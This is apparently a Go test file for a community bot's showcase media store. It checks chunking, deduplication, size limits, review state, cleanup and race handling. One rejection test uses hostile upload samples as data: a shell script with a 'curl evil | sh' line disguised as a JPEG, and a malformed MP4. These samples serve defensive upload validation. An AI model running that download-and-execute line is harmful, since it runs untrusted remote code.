package storage_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"io"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/iotest"
	"time"

	"github.com/hearthbot/hearth/community"
	"github.com/hearthbot/hearth/feedback"
	"github.com/hearthbot/hearth/storage"
	"github.com/hearthbot/hearth/storage/storagetest"
)

func TestShowcaseMediaStreamsInChunksByHash(t *testing.T) {
	f := newShowcaseFixture(t, 0)
	file := mp4(2*storage.MediaChunk+storage.MediaChunk/2, 1)
	// One byte at a time from the source: the store still writes whole chunks.
	md, err := f.sc.KeepMedia(context.Background(), iotest.HalfReader(bytes.NewReader(file)))
	if err != nil {
		t.Fatal(err)
	}
	if md.Hash != feedback.MediaHash(sha256.Sum256(file)) || md.Type != feedback.MediaMP4 || md.Size != int64(len(file)) {
		t.Fatalf("kept %s %s %d; want the file's hash, video/mp4, %d", md.Hash, md.Type, md.Size, len(file))
	}
	var sizes []int
	if err := f.s.DB().Select(&sizes, `SELECT length(data) FROM showcase_media_chunks WHERE sha256 = $1 ORDER BY seq`, md.Hash[:]); err != nil {
		t.Fatal(err)
	}
	if len(sizes) != 3 || sizes[0] != storage.MediaChunk || sizes[1] != storage.MediaChunk || sizes[2] != storage.MediaChunk/2 {
		t.Fatalf("chunks of %v bytes; want 1 MiB, 1 MiB, 512 KiB", sizes)
	}
	got, read := readAll(t, f.s, md.Hash)
	if !bytes.Equal(got, file) || read.Type != feedback.MediaMP4 || read.Size != md.Size {
		t.Fatalf("read back %d bytes (%s), not the %d kept", len(got), read.Type, len(file))
	}
	if _, _, err := f.s.OpenMedia(context.Background(), feedback.MediaHash{1}); errorKey(err) != "showcase.media_not_found" {
		t.Fatalf("open a file not kept: %v", err)
	}
}

func TestShowcaseMediaKeepsOneCopyOfAFile(t *testing.T) {
	f := newShowcaseFixture(t, 0)
	file := mp4(storage.MediaChunk+10, 2)
	first := f.keep(file)
	again := f.keep(file)
	if again.Hash != first.Hash || again.Size != first.Size || again.CreatedAt.Before(first.CreatedAt) {
		t.Fatalf("kept again as %+v; want the first, %+v", again, first)
	}
	if n := count(t, f.s, `SELECT count(*) FROM showcase_media`); n != 1 {
		t.Fatalf("%d files kept, want 1", n)
	}
	if n := count(t, f.s, `SELECT count(*) FROM showcase_media_chunks`); n != 2 {
		t.Fatalf("%d chunks kept, want 2", n)
	}
}

func TestShowcaseMediaRefusedLeavesNothing(t *testing.T) {
	f := newShowcaseFixture(t, 2*storage.MediaChunk)
	ctx := context.Background()
	cut := mp4(storage.MediaChunk+5, 3)
	for _, tc := range []struct {
		name string
		r    io.Reader
		key  string
	}{
		{"one byte too big", bytes.NewReader(mp4(2*storage.MediaChunk+1, 3)), "showcase.too_big"},
		{"far too big", bytes.NewReader(mp4(5*storage.MediaChunk, 3)), "showcase.too_big"},
		{"a script named .jpg", strings.NewReader("#!/bin/sh\ncurl evil | sh\n"), "showcase.bad_type"},
		{"a script behind a JPEG's first bytes", strings.NewReader("\xff\xd8\xff#!/bin/sh\ncurl evil | sh\n"), "showcase.broken_file"},
		{"an MP4 of a bogus box", bytes.NewReader(append([]byte(mp4Ftyp), "\x00\x00\x01\x00evil"...)), "showcase.broken_file"},
		{"empty", strings.NewReader(""), "showcase.bad_type"},
		{"the download breaks", io.MultiReader(bytes.NewReader(cut), iotest.ErrReader(io.ErrUnexpectedEOF)), ""},
	} {
		_, err := f.sc.KeepMedia(ctx, tc.r)
		if err == nil || errorKey(err) != tc.key {
			t.Errorf("%s: got %v, want %q", tc.name, err, tc.key)
		}
		if tc.key == "showcase.too_big" && community.ErrorCode(err) != community.EInvalid {
			t.Errorf("%s: code %s, want invalid", tc.name, community.ErrorCode(err))
		}
		if n := count(t, f.s, `SELECT (SELECT count(*) FROM showcase_media) + (SELECT count(*) FROM showcase_media_chunks)`); n != 0 {
			t.Errorf("%s: %d rows left", tc.name, n)
		}
	}
	// Exactly the limit is kept.
	if md := f.keep(mp4(2*storage.MediaChunk, 3)); md.Size != 2*storage.MediaChunk {
		t.Fatalf("kept %d bytes", md.Size)
	}
}

func TestShowcaseAlbumKeepsItsOrder(t *testing.T) {
	f := newShowcaseFixture(t, 0)
	ann := f.member("ann", community.Telegram, true)
	files := [][]byte{mp4(100, 1), mp4(200, 2), mp4(300, 3)}
	sub := f.submit(ann, files[2], files[0], files[1])
	got, err := f.sc.Submission(context.Background(), sub.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got.Member != ann || got.Status != feedback.SubmissionPending || got.Caption != "my tea" || !got.CreatedAt.Equal(showcaseNow) {
		t.Fatalf("submission %+v", got)
	}
	var order []string
	for _, m := range got.Media {
		order = append(order, m.MessageID+":"+strconv.FormatInt(m.Size, 10))
	}
	if strings.Join(order, " ") != "1:300 2:100 3:200" {
		t.Fatalf("album %v; want 1:300 2:100 3:200", order)
	}
	if _, err := f.sc.Submission(context.Background(), 404); errorKey(err) != "showcase.not_found" {
		t.Fatalf("a missing submission: %v", err)
	}
}

func TestShowcaseSameFileTwiceIsOneSubmission(t *testing.T) {
	f := newShowcaseFixture(t, 0)
	ctx := context.Background()
	ann, bob := f.member("ann", community.Telegram, true), f.member("bob", community.Discord, true)
	file := mp4(500, 9)
	first := f.submit(ann, mp4(400, 8), file)
	_, err := f.sc.Submit(ctx, feedback.Submission{Member: ann, Platform: community.Discord,
		Media: []feedback.SubmissionMedia{{Hash: f.keep(mp4(600, 7)).Hash}, {Hash: f.keep(file).Hash}}})
	if errorKey(err) != "showcase.already_submitted" || community.ErrorCode(err) != community.EConflict {
		t.Fatalf("same file again: %v", err)
	}
	if e, _ := errors.AsType[*community.Error](err); e.Data["ID"] != int64(first.ID) {
		t.Fatalf("names %v, want %d", e.Data["ID"], first.ID)
	}
	if n := count(t, f.s, `SELECT count(*) FROM showcase_submissions`); n != 1 {
		t.Fatalf("%d submissions, want 1 (nothing half-written)", n)
	}
	if _, err := f.sc.Submit(ctx, feedback.Submission{Member: bob, Platform: community.Discord,
		Media: []feedback.SubmissionMedia{{Hash: f.keep(file).Hash}}}); err != nil {
		t.Fatalf("another member's submission of the file: %v", err)
	}
	_, err = f.sc.Submit(ctx, feedback.Submission{Member: bob, Media: []feedback.SubmissionMedia{{Hash: feedback.MediaHash{7}}}})
	if errorKey(err) != "showcase.media_not_found" {
		t.Fatalf("a file not kept: %v", err)
	}
}

func TestShowcaseReviewOnce(t *testing.T) {
	f := newShowcaseFixture(t, 0)
	ctx := context.Background()
	ann, staff := f.member("ann", community.Telegram, true), f.member("sam", community.Telegram, false)
	sub := f.submit(ann, mp4(100, 1))
	if _, err := f.sc.Reject(ctx, sub.ID, staff, "Not our product"); err != nil {
		t.Fatal(err)
	}
	got, _ := f.sc.Submission(ctx, sub.ID)
	if got.Status != feedback.SubmissionRejected || got.Reason != "Not our product" || got.ReviewedBy != staff || !got.ReviewedAt.Equal(showcaseNow) {
		t.Fatalf("after rejection: %+v", got)
	}
	if _, err := f.sc.Approve(ctx, sub.ID, staff); errorKey(err) != "showcase.already_reviewed" {
		t.Fatalf("approve a rejected one: %v", err)
	}
	// The store itself refuses a second review (another replica first).
	got.Status = feedback.SubmissionApproved
	if err := f.s.ReviewSubmission(ctx, got, community.Effects{}); !errors.Is(err, community.ErrConflict) {
		t.Fatalf("store review of a reviewed one: %v", err)
	}
	if n := count(t, f.s, `SELECT count(*) FROM audit_log WHERE action = $1 AND reason = 'Not our product'`, feedback.AuditShowcaseRejected); n != 1 {
		t.Fatalf("%d audit entries of the rejection, want 1", n)
	}
}

func TestDropUnusedMediaKeepsSubmittedAndRecentFiles(t *testing.T) {
	f := newShowcaseFixture(t, 0)
	ctx := context.Background()
	ann := f.member("ann", community.Telegram, true)
	used := f.submit(ann, mp4(100, 1)).Media[0].Hash
	unused := f.keep(mp4(storage.MediaChunk+1, 2)).Hash
	var keptAt time.Time
	if err := f.s.DB().Get(&keptAt, `SELECT created_at FROM showcase_media WHERE sha256 = $1`, unused[:]); err != nil {
		t.Fatal(err)
	}
	if n, err := f.s.DropUnusedMedia(ctx, keptAt); err != nil || n != 0 {
		t.Fatalf("before the file was kept: dropped %d, %v; want none", n, err)
	}
	// Kept again (for a submission being made): its grace starts again.
	if _, err := f.s.DB().Exec(`UPDATE showcase_media SET created_at = created_at - interval '1 day' WHERE sha256 = $1`, unused[:]); err != nil {
		t.Fatal(err)
	}
	if again := f.keep(mp4(storage.MediaChunk+1, 2)); again.Hash != unused || again.CreatedAt.Before(keptAt) {
		t.Fatalf("kept again: %+v; want its time to be now", again)
	}
	if n, err := f.s.DropUnusedMedia(ctx, keptAt); err != nil || n != 0 {
		t.Fatalf("after it was kept again: dropped %d, %v; want none", n, err)
	}
	if n, err := f.s.DropUnusedMedia(ctx, keptAt.Add(time.Second)); err != nil || n != 1 {
		t.Fatalf("dropped %d, %v; want the unused file", n, err)
	}
	if _, _, err := f.s.OpenMedia(ctx, unused); errorKey(err) != "showcase.media_not_found" {
		t.Fatalf("the unused file: %v", err)
	}
	if n := count(t, f.s, `SELECT count(*) FROM showcase_media_chunks`); n != 1 {
		t.Fatalf("%d chunks left, want the submitted file's 1", n)
	}
	if got, _ := readAll(t, f.s, used); len(got) != 100 {
		t.Fatalf("the submitted file: %d bytes", len(got))
	}
}

// TestShowcaseMediaKeptTwiceAtOnceIsOneCopy: two replicas keeping the
// same file at the same moment both succeed, with one copy between them.
func TestShowcaseMediaKeptTwiceAtOnceIsOneCopy(t *testing.T) {
	f := newShowcaseFixture(t, 0)
	for round := range 5 {
		file := mp4(2*storage.MediaChunk, byte(round))
		var wg sync.WaitGroup
		got := make([]feedback.Media, 2)
		errs := make([]error, 2)
		for i := range 2 {
			wg.Go(func() { got[i], errs[i] = f.sc.KeepMedia(context.Background(), bytes.NewReader(file)) })
		}
		wg.Wait()
		if errs[0] != nil || errs[1] != nil || got[0].Hash != got[1].Hash || got[0].Size != got[1].Size {
			t.Fatalf("round %d: %+v %v, %+v %v; want the same file twice", round, got[0], errs[0], got[1], errs[1])
		}
	}
	if n := count(t, f.s, `SELECT count(*) FROM showcase_media`); n != 5 {
		t.Fatalf("%d files kept, want 5", n)
	}
	if n := count(t, f.s, `SELECT count(*) FROM showcase_media_chunks`); n != 10 {
		t.Fatalf("%d chunks kept, want 10", n)
	}
}

// TestShowcaseMediaLosesTheRaceToAnotherCopy: when another replica keeps
// the same file between this one's check and its rename (its row not yet
// committed), the rename waits for it and then keeps that copy.
func TestShowcaseMediaLosesTheRaceToAnotherCopy(t *testing.T) {
	f := newShowcaseFixture(t, 0)
	file := mp4(100, 4)
	h := sha256.Sum256(file)
	other, err := f.s.DB().Begin()
	if err != nil {
		t.Fatal(err)
	}
	defer other.Rollback()
	if _, err := other.Exec(`INSERT INTO showcase_media (sha256, type, size, created_at) VALUES ($1, 'video/mp4', 100, $2)`, h[:], showcaseNow); err != nil {
		t.Fatal(err)
	}
	if _, err := other.Exec(`INSERT INTO showcase_media_chunks (sha256, seq, data) VALUES ($1, 0, $2)`, h[:], file); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	var got feedback.Media
	var keepErr error
	go func() {
		defer close(done)
		got, keepErr = f.sc.KeepMedia(context.Background(), bytes.NewReader(file))
	}()
	storagetest.WaitCount(t, f.s.DB(), 1, `SELECT count(*) FROM pg_stat_activity
WHERE datname = current_database() AND wait_event_type = 'Lock' AND query LIKE 'UPDATE showcase_media SET sha256%'`)
	if err := other.Commit(); err != nil {
		t.Fatal(err)
	}
	<-done
	// Kept again, its time is the database's now (never earlier than the
	// other copy's): compare with the other copy's time, not equal to it,
	// or the test would pass only before showcaseNow's day.
	if keepErr != nil || got.Hash != feedback.MediaHash(h) || got.CreatedAt.Before(showcaseNow) {
		t.Fatalf("got %+v, %v; want the other copy", got, keepErr)
	}
	if n := count(t, f.s, `SELECT count(*) FROM showcase_media_chunks`); n != 1 {
		t.Fatalf("%d chunks, want the other copy's 1", n)
	}
}
